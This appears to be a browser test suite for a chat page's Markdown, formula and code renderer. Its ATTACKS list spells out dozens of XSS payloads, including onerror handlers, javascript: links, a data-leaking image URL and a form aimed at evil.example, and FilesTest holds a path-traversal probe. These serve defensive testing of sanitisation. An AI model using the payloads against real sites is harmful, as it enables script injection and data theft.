"""What the page makes of a model's text: Markdown, formulas, code, and attacks.

Usage and needs: page_browser.py.
"""

import gzip
import random
import sys
import unittest
import urllib.error
import urllib.request

from page_browser import PageCase, SCRIPTED_MODEL

# Draws texts without a chat: render(text, cuts) shows the text up to each cut, then all of it.
DRAWING = r"""
window.render = async (text, cuts = []) => {
  const { MarkdownView } = await import("./assets/markdown.js");
  const target = document.createElement("div");
  target.className = "markdown drawn";
  document.querySelector(".drawn")?.remove();
  document.getElementById("messages").append(target);
  const view = new MarkdownView(target);
  for (const cut of cuts) view.show(text.slice(0, cut), false);
  view.show(text, true);
  return target.innerHTML;
};
"""

TEXTS = [
    "Plain *words* and **bold ones**, `code` and ~~struck~~.\n\nA second paragraph.\n",
    "# One\n## Two\n\ntext\n\nSetext\n======\n\n---\n",
    "1. a\n2. b\n   - c\n   - d\n\n     more of d\n3. e\n\nAfter.\n\n* x\n* y\n\n\n* z\n",
    "- [x] done\n- [ ] open\n\n> quoted\n> > twice\nlazy\n\nend",
    "| a | b |\n|---|--:|\n| 1 | 2 |\n| `x` | **y** |\n\nafter the table\n",
    "```python\ndef f():\n    return '```'\n\n\n# end\n```\nafter\n\n~~~\nplain\n~~~\n\n```\nnever closed\n",
    "  ```js\n  indented();\n  ```\n\n\tcode by tab\n\n````md\n```\ninner\n```\n````\nend",
    "```\n```\n\n```c++\nint x;\n```",
    "Maths $a^2$ and \\(b\\), $5 and $6, $$c$$ in a line.\n\n$$\n\\frac{1}{2}\n$$\n\n\\[ x \\]\nend",
    "A [link][1] and [another](https://example.com/a_b_c) and https://example.org.\n\n[1]: https://x.example\n",
    "Windows\r\nlines\r\n\r\n```\r\ncode\r\n```\r\nend\r\n",
    "<b>not bold</b> H<sub>2</sub>O<br>next <!-- no comment -->\n\n<div>\n\nblock\n\n</div>\n",
    "Text with ` one tick and ** two stars and $ one dollar\n\n* * *\n\n**unclosed\n",
    "日本語の**太字**と絵文字 🎉 `コード`\n\n1) one\n2) two\n",
    "Cut off:\n\n```js\nlet x =",
]

# Each must stay without effect: it sets window.broken if it runs.
ATTACKS = [
    "<img src=x onerror='window.broken=1'>",
    "<script>window.broken=1</script>",
    "<scr<script>ipt>window.broken=1</scr</script>ipt>",
    "<svg onload='window.broken=1'><animate onbegin='window.broken=1' attributeName=x></svg>",
    "<svg><style><img src=x onerror=window.broken=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=window.broken=1>",
    "<iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.broken=1</script>'></object>",
    "<form action='https://evil.example'><input name=key><button>send</button></form>",
    "<style>body{display:none} @import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:window.broken=1'>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>over all</div>",
    "<details open ontoggle=window.broken=1>x</details><video src=x onerror=window.broken=1>",
    "<input autofocus onfocus=window.broken=1><a href=javascript:window.broken=1>x</a>",
    "<sub onclick=window.broken=1>x</sub><br onmouseover=window.broken=1>",
    "[x](javascript:window.broken=1) [y](JaVaScRiPt:window.broken=1) [z](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x) [z](&#106;avascript:window.broken=1)",
    "[x][a]\n\n[a]: javascript:window.broken=1 'title'",
    "<javascript:window.broken=1> <https://ok.example/'onclick='window.broken=1>",
    "![x](https://evil.example/steal?q=secret) ![y](javascript:window.broken=1)",
    "![x](x \"' onerror='window.broken=1\")",
    "[x](https://ok.example \"' onmouseover='window.broken=1' a='\")",
    "```\"><img src=x onerror=window.broken=1>\ncode\n```",
    "```html\n<img src=x onerror=window.broken=1><script>window.broken=1</script>\n```",
    "```js onload=window.broken=1\n</code></pre><img src=x onerror=window.broken=1>\n```",
    "`<img src=x onerror=window.broken=1>`",
    "|<img src=x onerror=window.broken=1>|b|\n|-|-|\n|<script>window.broken=1</script>|x|",
    "$\\href{javascript:window.broken=1}{x}$ $\\url{javascript:window.broken=1}$",
    "$\\htmlStyle{position:fixed}{x}$ $\\htmlData{a=b}{x}$ $\\htmlClass{drawn}{x}$ $\\htmlId{key}{x}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\text{<img src=x onerror=window.broken=1>}$ $$\\text{</span><script>window.broken=1</script>}$$",
    "$<img src=x onerror=window.broken=1>$",
    "$$\\rule{1000000em}{1000000em}$$ $\\kern{999999em}x$",
    "$\\def\\a{\\a\\a}\\a$ $$\\newcommand{\\b}[1]{\\b{#1#1}}\\b{x}$$",
    "\\(" + "{" * 500 + "x" + "}" * 500 + "\\)",
    "<span class='maths display'>\\href{javascript:window.broken=1}{x}</span>",
    "<template><img src=x onerror=window.broken=1></template><noscript><p title='</noscript>"
    "<img src=x onerror=window.broken=1>'>",
    "<a id=shadowNode><a id=shadowNode name=__depth href=1>",
    "> " * 400 + "<img src=x onerror=window.broken=1>",
    "&lt;img src=x onerror=window.broken=1&gt; &#60;script&#62;window.broken=1&#60;/script&#62;",
    "\u0000<\u0000img src=x onerror=window.broken=1>",
]

# What an attack may have left behind, outside of KaTeX's own elements.
REMAINS = r"""
const bad = [];
for (const e of document.querySelectorAll(arguments[0] + " *")) {
  const own = e.closest(".katex, .code-head");
  const name = e.localName;
  if (["script", "style", "iframe", "object", "embed", "link", "meta", "base", "form", "video",
       "audio", "img", "template", "details", "button", "animate"].includes(name) && !own) {
    bad.push(name);
  }
  if (["svg", "math"].includes(name) && !own) bad.push(name);
  if (name === "input" && (e.type !== "checkbox" || !e.disabled)) bad.push("input " + e.type);
  for (const { name: key, value } of e.attributes) {
    if (key.startsWith("on")) bad.push(`${name} ${key}`);
    if (key === "id" || key === "name" || (key === "style" && !own)) bad.push(`${name} ${key}`);
    if (/^(href|src|action|xlink:href)$/.test(key) && !/^(https?|mailto):/.test(value) &&
        !value.startsWith("#i-")) bad.push(`${name} ${key} ${value}`);
    if (key === "href" && name === "a" && !/noopener/.test(e.rel)) bad.push("rel");
  }
}
return bad;
"""


class MarkdownTest(PageCase):
    script = SCRIPTED_MODEL + DRAWING

    def render(self, text, cuts=()):
        return self.page.execute_async_script(
            "window.render(arguments[0], arguments[1]).then(arguments[2], "
            "  (failure) => arguments[2]('failed: ' + failure.stack))", text, list(cuts))

    def query(self, script):
        return self.run_js("const d = document.querySelector('.drawn'); return " + script)

    def test_what_markdown_becomes(self):
        self.render("\n\n".join(TEXTS[:5]))
        for selector, times in [("p", 7), ("strong", 2), ("em", 1), ("del", 1), ("h1", 2),
                                ("h2", 1), ("hr", 1), ("ol > li", 3), ("li ul > li", 2),
                                ("input:disabled", 2), ("blockquote blockquote", 1),
                                (".wide > table th", 2), ("td[align=right]", 2)]:
            self.assertGreaterEqual(self.query(f"d.querySelectorAll('{selector}').length"), times,
                                    selector)
        self.render(TEXTS[11])
        self.assertEqual(self.query("d.querySelectorAll('sub, br').length"), 2)
        self.assertEqual(self.query("d.querySelectorAll('b, div').length"), 0)
        self.assertIn("<b>not bold</b>", self.query("d.textContent"))
        self.assertIn("<div>", self.query("d.textContent"))

    def test_links_open_elsewhere_and_pictures_are_links(self):
        self.render(TEXTS[9] + "\n![a picture](https://pictures.example/x.png)")
        self.assertEqual(
            self.query("[...d.querySelectorAll('a')].map(a => [a.href, a.target, a.rel])"),
            [[address, "_blank", "noopener noreferrer nofollow"] for address in [
                "https://x.example/", "https://example.com/a_b_c", "https://example.org/",
                "https://pictures.example/x.png"]])
        self.assertEqual(self.query("d.querySelectorAll('img').length"), 0)

    def test_formulas(self):
        self.render(TEXTS[8] + "\n\n$$\\vec{v} \\fcolorbox{red}{white}{$x$} \\pmb{y}$$ $\\oops{$")
        self.assertEqual(self.query("d.querySelectorAll('.katex').length"), 6)
        self.assertEqual(self.query("d.querySelectorAll('.katex-display').length"), 4)
        self.assertEqual(self.query("d.querySelectorAll('.katex math annotation').length"), 6)
        self.assertIn("$5 and $6", self.query("d.textContent"))
        self.assertEqual(self.query("[...d.querySelectorAll('.unread')].map(e => e.textContent)"),
                         ["\\oops{"])
        # The arrow of \vec has its width although the policy forbids style attributes.
        self.assertRegex(self.query("d.querySelector('.katex svg').style.width"), r"^0\.47\d*em$")
        fonts = self.page.execute_async_script(
            "document.fonts.ready.then((all) => arguments[0]("
            "  [...all].filter((f) => f.status === 'loaded').map((f) => f.family)))")
        self.assertIn("KaTeX_Main", fonts)

    def test_code_has_colours_and_can_be_copied(self):
        self.render("```python\ndef f(): return 'x'\n```\n\n```nonsense\n<b>\n```\n\n```\nplain\n```")
        self.assertEqual(self.query("[...d.querySelectorAll('.code-head span')]"
                                    ".map(e => e.textContent)"), ["python", "nonsense", "text"])
        self.assertEqual(self.query("d.querySelector('.hljs-keyword').textContent"), "def")
        self.run_js("navigator.clipboard.writeText = async (text) => { window.copied = text; };")
        self.press("Copy the code")
        self.wait(lambda page: self.run_js("return window.copied") == "plain")
        self.assertEqual(self.query("[...d.querySelectorAll('pre')].map(e => e.textContent)"),
                         ["def f(): return 'x'", "<b>", "plain"])

    def test_any_cut_gives_the_same(self):
        dice = random.Random(7)
        for text in TEXTS + ["\n\n".join(TEXTS)]:
            whole = self.render(text)
            self.assertFalse(whole.startswith("failed"), whole)
            every = range(1, len(text)) if len(text) < 400 else range(1, len(text), 7)
            self.assertEqual(self.render(text, every), whole, text)
            for _ in range(3):
                cuts = sorted(dice.sample(range(1, len(text)), min(9, len(text) - 1)))
                self.assertEqual(self.render(text, cuts), whole, (text, cuts))

    def test_what_is_finished_is_not_drawn_again(self):
        # Counted, not timed: what marked reads for an answer of 40,000 characters that comes in
        # 4,000 pieces, of which each block is read some times as often as it has pieces.
        count, kept = self.page.execute_async_script(r"""
          const done = arguments[0];
          (async () => {
            const { MarkdownView } = await import("./assets/markdown.js");
            const target = document.createElement("div");
            let read = 0;
            const lexer = marked.lexer;
            marked.lexer = (text, ...more) => { read += text.length; return lexer(text, ...more); };
            const block = "Some **words** of a paragraph that has a hundred characters or so, and "
                + "then it ends in a full stop.\n\n";
            const code = "```js\n" + "const a = 1;\n".repeat(800) + "```\n\n";
            const text = block.repeat(150) + code + block.repeat(150);
            const view = new MarkdownView(target);
            let first = null, kept = true;
            for (let at = 10; at < text.length; at += 10) {
              view.show(text.slice(0, at), false);
              if (at === 500) first = target.firstChild;
              kept &&= !first || target.firstChild === first;
            }
            view.show(text, true);
            marked.lexer = lexer;
            done([read / text.length, kept]);
          })();
        """)
        self.assertTrue(kept)
        self.assertLess(count, 25)

    def test_attacks_have_no_effect(self):
        for text in ATTACKS:
            drawn = self.render(text)
            self.assertFalse(drawn.startswith("failed"), drawn)
            self.assertEqual(self.run_js(REMAINS, ".drawn"), [], text)
        for text in ATTACKS[:20]:  # also while they come in
            self.render(text, range(1, len(text)))
            self.assertEqual(self.run_js(REMAINS, ".drawn"), [], text)
        self.assertEqual(self.run_js("return window.broken"), 0)
        box = self.run_js("return document.getElementById('ask').getBoundingClientRect().height")
        self.assertGreater(box, 0)

    def test_attacks_in_a_chat(self):
        attack = "\n\n".join(ATTACKS)
        self.say({"reasoning_content": attack}, attack, {"error": {"message": ATTACKS[0]}})
        self.ask(ATTACKS[0])
        self.wait(self.ended)
        self.assertEqual(self.texts()[0], ATTACKS[0])
        self.assertIn(ATTACKS[0], self.texts()[1])
        self.assertEqual(self.chats(), [ATTACKS[0]])
        self.run_js("document.querySelector('.thoughts').open = true")
        self.assertEqual(self.run_js(REMAINS, ".message .markdown"), [])
        self.page.refresh()
        self.wait(lambda page: len(self.texts()) == 2)
        self.assertEqual(self.run_js(REMAINS, ".message .markdown"), [])
        self.assertEqual(self.run_js("return window.broken"), 0)
        # Nothing of it asked anybody else.
        asked = self.run_js("return performance.getEntriesByType('resource').map((e) => e.name)")
        self.assertEqual([name for name in asked if not name.startswith(self.url + "/")], [])

    def test_what_a_library_cannot_read_stays_text(self):
        text = ">" * 20000 + " deep"
        self.exchange("Go deep", text)
        self.assertEqual(self.texts()[1], text)
        self.exchange("And back", "**Fine.**")
        self.assertEqual(self.inner_texts(".assistant strong"), ["Fine."])

    def test_formulas_end_at_empty_lines_and_have_a_length(self):
        self.render("It costs $$ here\n\nand $$ there. \\(open\n\nclosed\\)\n\n"
                    "\\[" + "x" * 5000 + "\\]\n\n$$\na\n\nb\n$$")
        self.assertEqual(self.query("d.querySelectorAll('.maths').length"), 0)

    def test_the_policy_holds_beneath(self):
        # In a task of the page's own: what a driver evaluates is not held to the policy.
        results = self.page.execute_async_script("""
          const done = arguments[0];
          setTimeout(() => done([
            () => { document.body.innerHTML = "<b>x</b>"; },
            () => { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); },
            () => { document.createElement("script").text = "window.broken = 1"; },
            () => { document.createElement("script").src = "x.js"; },
            () => eval("window.broken = 1"),
            () => new Function("window.broken = 1")(),
            () => trustedTypes.createPolicy("another", {}),
          ].map((attempt) => {
            try { attempt(); return "done"; } catch (failure) { return "refused"; }
          })), 0);
        """)
        self.assertEqual(results, ["refused"] * 7)
        self.assertEqual(self.run_js("return window.broken"), 0)
        self.page.get_log("browser")  # where each is complained about
        policy = urllib.request.urlopen(self.url + "/").headers["Content-Security-Policy"]
        for part in ["default-src 'none'", "script-src 'self'", "style-src 'self'",
                     "require-trusted-types-for 'script'", "trusted-types dompurify"]:
            self.assertIn(part, policy.split("; "))
        self.assertNotIn("unsafe", policy)


class FilesTest(PageCase):
    def get(self, path, **headers):
        request = urllib.request.Request(self.url + path, headers={
            name.replace("_", "-"): value for name, value in headers.items()})
        try:
            with urllib.request.urlopen(request, timeout=60) as answer:
                return answer.status, answer.headers, answer.read()
        except urllib.error.HTTPError as error:
            with error:
                return error.code, error.headers, error.read()

    def test_files_come_packed_or_plain_and_once(self):
        for path in ["/", "/assets/page.js", "/assets/katex.css", "/assets/notice.txt"]:
            status, plain_headers, plain = self.get(path)
            self.assertEqual(status, 200)
            self.assertNotIn("Content-Encoding", plain_headers)
            _, headers, packed = self.get(path, Accept_Encoding="gzip, br")
            self.assertEqual(headers["Content-Encoding"], "gzip")
            self.assertEqual(gzip.decompress(packed), plain)
            self.assertLess(len(packed), len(plain))
            self.assertEqual(headers["Vary"], "Accept-Encoding")
            self.assertNotEqual(headers["ETag"], plain_headers["ETag"])
            status, headers, body = self.get(path, Accept_Encoding="gzip",
                                             If_None_Match=headers["ETag"])
            self.assertEqual((status, body), (304, b""))
            self.assertEqual(self.get(path, If_None_Match='"other"')[0], 200)
        status, headers, font = self.get("/assets/KaTeX_Main-Regular.woff2",
                                         Accept_Encoding="gzip")
        self.assertEqual((status, font[:4]), (200, b"wOF2"))
        self.assertNotIn("Content-Encoding", headers)
        for path in ["/assets/", "/assets/page", "/assets/page.html/", "/assets/../page.html",
                     "/assets/%2e%2e/etc/passwd", "/assets/x/page.js"]:
            self.assertIn(self.get(path)[0], [400, 404], path)
        notice = self.get("/assets/notice.txt")[2].decode()
        for name in ["marked", "dompurify", "highlight.js", "katex", "chart.js"]:
            self.assertIn(name, notice.lower())


if __name__ == "__main__":
    unittest.main(argv=sys.argv[:1] + sys.argv[2:])
